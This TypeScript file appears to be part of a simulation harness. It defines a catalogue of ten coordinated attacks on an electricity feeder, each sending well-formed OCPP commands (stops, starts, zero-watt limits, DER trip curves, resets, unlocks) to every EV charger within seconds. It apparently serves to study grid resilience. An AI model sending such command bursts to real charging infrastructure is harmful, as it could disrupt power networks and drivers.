import type { JsonObject } from '../../src/ocpp/message.ts';
import type { OcppVersion } from '../../src/ocpp/version.ts';
import type { FeederSite } from './site.ts';

/** One of the attacks on a feeder of the threat catalogue, T1-01 to T1-10. */
export interface FeederAttack {
  readonly id: string;
  readonly title: string;
  /** Are cars charging when it begins? */
  readonly areCharging: boolean;
  /** All stations of one version; without it they are mixed. */
  readonly version?: OcppVersion;
  /** A limit that the CSMS has set before, in W. */
  readonly limitW?: number;
  /** How long it is watched, in seconds. */
  readonly watchSeconds: number;
  /** The commands, and after how many seconds each is sent. */
  commands(site: FeederSite): readonly AttackCommand[];
  /** For chargers that ask by themselves: what the CSMS answers. */
  readonly answers?: Readonly<Record<string, JsonObject>>;
}

/** One command of an attack. */
export interface AttackCommand {
  readonly atSeconds: number;
  readonly index: number;
  /** Undefined: the charger is what calls, as it was made to. */
  readonly from?: 'charger';
  /** Made when it is sent: by then the attacker knows what the charger is doing. */
  make(): readonly [action: string, payload: JsonObject];
}

/** A whole feeder within these seconds: as fast as somebody with a list and a loop. */
const burstSeconds = 5;

/** The same for each station, spread over the burst. */
function burst(
  site: FeederSite,
  make: (index: number) => readonly [action: string, payload: JsonObject],
  atSeconds = 0,
): readonly AttackCommand[] {
  return site.stations.map((_, index) => {
    const part = index / site.stations.length;
    return { atSeconds: atSeconds + part * burstSeconds, index, make: () => make(index) };
  });
}

function is16(site: FeederSite, index: number): boolean {
  return site.stations[index]?.version === 'ocpp1.6';
}

/** Starts a transaction at a station. */
export function startOf(site: FeederSite, index: number): readonly [string, JsonObject] {
  const idTag = `TAG-${index}`;
  if (is16(site, index)) return ['RemoteStartTransaction', { connectorId: 1, idTag }];
  const idToken = { idToken: idTag, type: 'Central' };
  return ['RequestStartTransaction', { evseId: 1, idToken, remoteStartId: index + 1 }];
}

/** Stops what a station is doing. */
export function stopOf(site: FeederSite, index: number): readonly [string, JsonObject] {
  const transactionId = site.stations[index]?.transactionId ?? '0';
  if (is16(site, index)) {
    return ['RemoteStopTransaction', { transactionId: Number(transactionId) }];
  }
  return ['RequestStopTransaction', { transactionId }];
}

/** Sets a limit for what a station may take. */
export function limitOf(
  site: FeederSite,
  index: number,
  limitW: number,
  rest: {
    readonly profile?: JsonObject;
    readonly schedule?: JsonObject;
    readonly periods?: readonly JsonObject[];
  } = {},
): readonly [string, JsonObject] {
  const schedule = {
    chargingRateUnit: 'W',
    chargingSchedulePeriod: rest.periods ?? [{ startPeriod: 0, limit: limitW }],
    ...rest.schedule,
  };
  const common = { stackLevel: 0, chargingProfileKind: 'Absolute', ...rest.profile };
  if (is16(site, index)) {
    const csChargingProfiles = {
      chargingProfileId: 1,
      chargingProfilePurpose: 'TxDefaultProfile',
      ...common,
      chargingSchedule: schedule,
    };
    return ['SetChargingProfile', { connectorId: 1, csChargingProfiles }];
  }
  const chargingProfile = {
    id: 1,
    chargingProfilePurpose: 'TxDefaultProfile',
    ...common,
    chargingSchedule: [{ id: 1, ...schedule }],
  };
  return ['SetChargingProfile', { evseId: 1, chargingProfile }];
}

/** The attacks, in the order of the catalogue. */
export const feederAttacks: readonly FeederAttack[] = [
  {
    id: 'T1-01',
    title: 'stop everything',
    areCharging: true,
    watchSeconds: 600,
    commands: (site) => burst(site, (index) => stopOf(site, index)),
  },
  {
    id: 'T1-02',
    title: 'start everything',
    areCharging: false,
    watchSeconds: 600,
    commands: (site) => burst(site, (index) => startOf(site, index)),
  },
  {
    id: 'T1-03',
    title: 'stop and start, to and fro',
    areCharging: true,
    watchSeconds: 600,
    commands: (site) =>
      Array.from({ length: 6 }, (_, round) =>
        site.stations.slice(0, 40).map((_, index): AttackCommand => {
          const atSeconds = round * 20 + (index / 40) * burstSeconds;
          const isStop = round % 2 === 0;
          const make = () => (isStop ? stopOf(site, index) : startOf(site, index));
          return { atSeconds, index, make };
        }),
      ).flat(),
  },
  {
    id: 'T1-04',
    title: 'limit 0 W to all',
    areCharging: true,
    watchSeconds: 600,
    commands: (site) => burst(site, (index) => limitOf(site, index, 0)),
  },
  {
    id: 'T1-05',
    title: 'lift all limits',
    areCharging: true,
    limitW: 4_000,
    watchSeconds: 600,
    commands: (site) =>
      burst(site, (index) =>
        index % 2 === 0 ? ['ClearChargingProfile', {}] : limitOf(site, index, 1_000_000),
      ),
  },
  {
    id: 'T1-06',
    title: 'limit 0 W to all, in ten minutes',
    areCharging: true,
    watchSeconds: 1_800,
    commands: (site) => {
      const startSchedule = new Date(site.clock.nowMs() + 600_000).toISOString();
      return burst(site, (index) => limitOf(site, index, 0, { schedule: { startSchedule } }));
    },
  },
  {
    id: 'T1-07',
    title: 'the fast paths of OCPP 2.1',
    areCharging: true,
    version: 'ocpp2.1',
    limitW: 11_000,
    watchSeconds: 600,
    answers: {
      PullDynamicScheduleUpdate: { status: 'Accepted', scheduleUpdate: { limit: 0 } },
    },
    commands: (site) =>
      site.stations.map((station, index): AttackCommand => {
        const atSeconds = (index / site.stations.length) * burstSeconds;
        const transactionId = station.transactionId ?? '';
        const paths: readonly (readonly [string, JsonObject])[] = [
          ['UpdateDynamicSchedule', { chargingProfileId: 1, scheduleUpdate: { limit: 0 } }],
          ['UsePriorityCharging', { transactionId, activate: true }],
          ['AFRRSignal', { timestamp: new Date(site.clock.nowMs()).toISOString(), signal: 0 }],
        ];
        const path = paths[index % 4];
        if (path === undefined) {
          const pull = ['PullDynamicScheduleUpdate', { chargingProfileId: 1 }] as const;
          return { atSeconds, index, from: 'charger', make: () => pull };
        }
        return { atSeconds, index, make: () => path };
      }),
  },
  {
    id: 'T1-08',
    title: 'trip curves for all (DER control)',
    areCharging: true,
    version: 'ocpp2.1',
    watchSeconds: 120,
    commands: (site) =>
      burst(site, (index) => [
        'SetDERControl',
        {
          isDefault: true,
          controlId: `trip-${index}`,
          controlType: 'HVMustTrip',
          curve: {
            priority: 0,
            yUnit: 'PctMaxW',
            curveData: [
              { x: 0, y: 0 },
              { x: 100, y: 0 },
            ],
          },
        },
      ]),
  },
  {
    id: 'T1-09',
    title: 'reset everything',
    areCharging: true,
    watchSeconds: 600,
    commands: (site) =>
      burst(site, (index) => ['Reset', { type: is16(site, index) ? 'Hard' : 'Immediate' }]),
  },
  {
    id: 'T1-10',
    title: 'out of service and unlock, all',
    areCharging: true,
    watchSeconds: 600,
    commands: (site) =>
      burst(site, (index) => {
        const inOld = is16(site, index);
        if (index % 2 === 0) {
          return ['UnlockConnector', inOld ? { connectorId: 1 } : { evseId: 1, connectorId: 1 }];
        }
        return [
          'ChangeAvailability',
          inOld ? { connectorId: 0, type: 'Inoperative' } : { operationalStatus: 'Inoperative' },
        ];
      }),
  },
];
